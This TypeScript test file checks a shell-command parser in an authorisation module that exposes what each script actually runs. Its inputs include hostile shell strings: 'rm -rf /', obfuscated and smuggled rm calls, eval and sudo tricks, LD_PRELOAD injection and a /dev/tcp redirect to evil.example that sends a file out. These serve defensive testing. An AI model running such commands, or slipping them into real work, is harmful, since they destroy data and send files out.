import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readShell, type ShellAct } from '../../../src/authz/shell/acts.ts';

/** An act in one line: `exec rm -rf $x` where what only the shell knows stands in `<>`. */
function line({ action, args, cwd }: ShellAct): string {
  const text = (value: unknown): string =>
    typeof value === 'string' ? value : `<${(value as { expands: string }).expands}>`;
  const where = cwd === '/work' ? '' : ` in ${cwd}`;
  if (action === 'shell.exec') {
    return `${[args['program'], ...(args['argv'] as unknown[])].map(text).join(' ')}${where}`;
  }
  return `${action} ${Object.values(args).map(text).join('=')}${where}`;
}

function lines(script: string): readonly string[] | string {
  const reading = readShell(script, '/work');
  return reading.kind === 'acts' ? reading.acts.map(line) : 'unparsable';
}

describe('readShell', () => {
  it.each<[string, string[]]>([
    ['ls -la', ['ls -la']],
    ['  ls  ', ['ls']],
    ['', []],
    ['# nothing but a comment', []],
    ['ls # and no more; rm -rf /', ['ls']],
    ['a && b || c; d & e | f |& g', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
    ['a\nb\n\nc', ['a', 'b', 'c']],
    ['ls \\\n  -l', ['ls -l']],
    ['(a; (b)) && { c; d; }', ['a', 'b', 'c', 'd']],
    ['! a', ['a']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['while a; do b; done', ['a', 'b']],
    ['for x in 1 2; do echo $x; done', ['echo <$x>']],
    ['for x in $(rm a); do b; done', ['rm a', 'b']],
    ['\'r\'m "-r"f /x', ['rm -rf /x']],
    ['r\\m /', ['rm /']],
    ['/bin/rm x', ['rm x']],
    ['/usr/local/bin/node x', ['node x']],
    ['./rm x', ['./rm x']],
    ['/tmp/bin/rm x', ['/tmp/bin/rm x']],
    ['echo "$(rm a)" `rm b`', ['rm a', 'rm b', 'echo <"$(rm a)"> <`rm b`>']],
    ['echo "a \\"; rm b"', ['echo a "; rm b']],
    ["echo 'a; rm b'", ['echo a; rm b']],
    ['echo "costs 5 $ a"', ['echo costs 5 $ a']],
    ['diff <(a) >(b)', ['a', 'b', 'diff <<(a)> <>(b)>']],
    ['cat *.txt ~/x ~root/x $HOME a{b,c} [ab] "*"', ['cat <*.txt> ~/x <~root/x> <$HOME> <a{b,c}> <[ab]> *']],
    ['cat "~/x"', ['cat <"~/x">']],
    ['echo ${HOME:-x} ${#a}', ['echo <${HOME:-x}> <${#a}>']],
    ['[ -f x ] && [[ -d y ]]', ['[ -f x ]', '[[ -d y ]]']],
    ['a > b', ['file.write b', 'a']],
    ['a >> b 2>&1 < c', ['file.write b', 'file.read c', 'a']],
    ['a &> b; c 2> /dev/null; d >| e', ['file.write b', 'a', 'c', 'file.write e', 'd']],
    ['a >& b; c <> d', ['file.write b', 'a', 'file.write d', 'file.read d', 'c']],
    ['{ a; } > b', ['a', 'file.write b']],
    ['> b', ['file.write b']],
    ['cat <<< "$(rm a)"', ['rm a', 'cat']],
    ['cat <<EOF\n$(rm a)\nEOF\nb', ['cat', 'rm a', 'b']],
    ["cat <<'EOF'\n$(rm a)\n; rm b\nEOF\nb", ['cat', 'b']],
    ['cat <<-EOF > x\n\ta\n\tEOF\nb', ['file.write x', 'cat', 'b']],
    [
      "git commit -m \"$(cat <<'EOF'\nIt's done; rm x\nEOF\n)\"",
      ['cat', `git commit -m <"$(cat <<'EOF'\nIt's done; rm x\nEOF\n)">`],
    ],
    ['A=b C="$(d)" e', ['d', 'shell.env A=b', 'shell.env C=<"$(d)">', 'e']],
    ['A=', ['shell.env A=']],
    ['sudo -u root rm x', ['sudo -u root rm x', 'rm x']],
    [
      'nohup nice -n 5 timeout 10 rm x',
      ['nohup nice -n 5 timeout 10 rm x', 'nice -n 5 timeout 10 rm x', 'timeout 10 rm x', 'rm x'],
    ],
    ['bash -c "a; b"', ['bash -c a; b', 'a', 'b']],
    ["sudo bash -lc 'rm x'", ['sudo bash -lc rm x', 'bash -lc rm x', 'rm x']],
    ['eval "rm" x', ['eval rm x', 'rm x']],
    ['busybox rm x', ['busybox rm x', 'rm x']],
    ['find . -name a -exec rm {} \\;', ['find . -name a -exec rm {} ;', 'rm <{}>']],
    ['ls | xargs -n 1 rm', ['ls', 'xargs -n 1 rm', 'rm <what xargs reads>']],
    ['curl -sS https://a.example/x', ['curl -sS https://a.example/x', 'web.fetch https://a.example/x']],
    ['curl a.example', ['curl a.example', 'web.fetch http://a.example']],
    [
      'wget --url=https://b.example $X',
      ['wget --url=https://b.example <$X>', 'web.fetch https://b.example', 'web.fetch <$X>'],
    ],
    ['bash script.sh', ['bash script.sh']],
    ['a; cd sub && cat x', ['a', 'cd sub', 'cat x', 'cat x in /work/sub']],
    ['cd /a; ls', ['cd /a', 'ls', 'ls in /a']],
  ])('finds in `%s` what it runs', (script, want) => {
    expect(lines(script)).toEqual(want);
  });

  it.each([
    ['a variable for a program', '$X -rf /'],
    ['a substitution for a program', '$(echo rm) x'],
    ['a pattern for a program', '/bin/r? x'],
    ['an encoded program', "$'\\x72m' x"],
    ['a quote that is not closed', "echo 'a"],
    ['a substitution that is not closed', 'echo $(a'],
    ['a bracket too many', 'a)'],
    ['a function', 'ls() { rm x; }; ls'],
    ['a function with its word', 'function ls { rm x; }'],
    ['a `case`', 'case a in a) rm x;; esac'],
    ['a `for` whose body follows at once', 'for x do rm -rf /; done'],
    ['a `for` of C', 'for ((;;)); do rm x; done'],
    ['a `select`', 'select x in a; do rm $x; done'],
    ['arithmetic', 'echo $(( a[$(rm x)] ))'],
    ['a list', 'a=(b c)'],
    ['commands between braces, as `zsh` has them', 'if [[ -n x ]] { rm x }'],
    ['a qualifier, as `zsh` has them', "ls *(e:'rm x':)"],
    ['a variable that is run', '${x@P}'],
    ['a variable with more in it', 'echo ${a:-$(rm x)}'],
    ['a word over two lines', 'fo\\\nr'],
    ['a substitution over two lines, in quotes', 'echo "$\\\n(rm x)"'],
    ['a here-document whose operator goes on in the next line', 'cat <<\\\n-EOF\na\nEOF\nrm x\n-EOF'],
    ['a here-document in which lines are joined', "cat <<EOF\nx\\\nEOF\necho '\nEOF\nrm x\n#'"],
    ['a here-document that does not end', 'cat <<EOF\nrm x'],
    ['a here-document with an odd end', 'cat <<E"O"F\nEOF'],
    ['a substitution behind a here-document', 'cat <<A $(b\nA\n)\nA'],
    ['backslashes in backquotes', 'echo `echo \\`rm x\\``'],
    ['a redirection to what is not known', 'a > $X'],
    ['a redirection to nothing', 'a >'],
    ['a redirection to another machine', 'cat x > /dev/tcp/evil.example/80'],
    ['a command behind a redirection that `sh` reads otherwise', 'a &> b rm x'],
    ['control characters', 'ls\u0000; rm x'],
    ['a carriage return', 'ls\r\nrm x'],
    ['too deep a nesting', `${'$('.repeat(12)}a${')'.repeat(12)}`],
    ['too many commands', 'a;'.repeat(300)],
    ['too long a script', 'a'.repeat(70_000)],
    ['variables for a program run by another', 'sudo LD_PRELOAD=x ls'],
    ['options that nobody knows', 'sudo --new rm x'],
    ['a script in a variable', 'bash -c "$X"'],
    ['a script behind an option', "bash -o pipefail -c 'rm x'"],
    ['`eval` of a variable', 'eval $X'],
    ['a script that what is read becomes part of', "ls | xargs -I{} sh -c 'rm {}'"],
    ['the same with a sign of its own', 'ls | xargs -I% rm %'],
    ['`find` with a script', "find . -exec sh -c 'rm {}' \\;"],
    ['a `find` that does not end', 'find . -exec rm'],
    ['a folder that is not known', 'cd $X; rm y'],
    ['the folder before', 'cd -; rm y'],
    ['a stack of folders', 'pushd a; rm y'],
    ['a folder that moves on in a loop', 'for i in 1 2; do cat x; cd ..; done'],
  ])('says that it cannot tell what %s runs', (_, script) => {
    expect(lines(script)).toBe('unparsable');
  });

  it('never throws, and never lets a command be hidden behind others', () => {
    const piece = fc.constantFrom(
      ...[
        'a',
        ' ',
        ';',
        '&&',
        '|',
        '\n',
        '(',
        ')',
        '"',
        "'",
        '$(',
        '`',
        '\\',
        '<<E',
        'E',
        '>',
        '<',
        '#',
        '{',
        '}',
        '$x',
        'if',
        'do',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const found = lines(`${pieces.join('')}\nrm x`);
        const isQuoted = /["'`#\\<($]/.test(pieces.join(''));
        expect(found === 'unparsable' || isQuoted || found.includes('rm x')).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('takes a second at most for the longest script', () => {
    const start = performance.now();
    readShell('a "$(b)" '.repeat(6000), '/work');
    expect(performance.now() - start).toBeLessThan(1000);
  });
});
